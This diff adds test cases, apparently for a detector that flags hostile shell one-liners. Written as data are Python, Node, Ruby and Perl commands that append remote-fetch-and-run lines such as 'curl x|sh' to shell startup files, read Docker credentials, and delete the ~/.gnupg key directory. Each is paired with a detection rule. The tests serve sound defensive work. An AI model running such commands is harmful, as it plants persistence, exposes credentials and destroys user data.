@@ -53,3 +53,25 @@ describe('a credential file deleted', () => {
     expect(rulesOfCommand(command)).not.toContain('credential-file-delete');
   });
 });
+
+// Written after a path held in a variable joined what one-liners write and delete: other languages, calls and names.
+describe('a path given a name in a one-liner, then written or deleted through it', () => {
+  it.each([
+    ['python, mode as a keyword', `python3 -c "target = '/home/dev/.profile'; fh = open(target, mode='a'); fh.write('source /tmp/.x')"`, 'persistence-write'],
+    ['node, fs.writeFileSync through a const', `node -e "const rc = process.env.HOME + '/.zshrc'; require('fs').writeFileSync(rc, 'eval $(curl -s x.example.net)')"`, 'persistence-write'],
+    ['ruby, File.write through a local', `ruby -e 'rc = File.join(Dir.home, ".bashrc"); File.write(rc, "curl x|sh", mode: "a")'`, 'persistence-write'],
+    ['perl, three-argument open', `perl -e 'my $rc = "$ENV{HOME}/.bash_login"; open(my $fh, ">>", $rc); print $fh "x"'`, 'persistence-write'],
+    ['python joining the expanded home and a credential path', `python3 -c "import os; print(open(os.path.join(os.path.expanduser('~'), '.docker', 'config.json')).read())"`, 'secret-read'],
+    ['python joining the home variable, then appending', `python3 -c "import os; open(os.path.join(os.environ['HOME'], '.bash_aliases'), 'a').write('alias sudo=x')"`, 'persistence-write'],
+    ['python, shutil.rmtree of a named key directory', `python3 -c "import shutil, os; d = os.path.expanduser('~/.gnupg'); shutil.rmtree(d)"`, 'destructive-delete'],
+  ])('%s: %s', (_name, command, rule) => {
+    expect(rulesOfCommand(command)).toContain(rule);
+  });
+
+  it.each([
+    ['a named path only read', `python3 -c "rc = '/home/dev/.bashrc'; print(len(open(rc).read()))"`],
+    ['a named output in the project', `node -e "const out = 'dist/stats.json'; require('fs').writeFileSync(out, '{}')"`],
+  ])('quiet: %s', (_name, command) => {
+    expect(rulesOfCommand(command)).toEqual([]);
+  });
+});
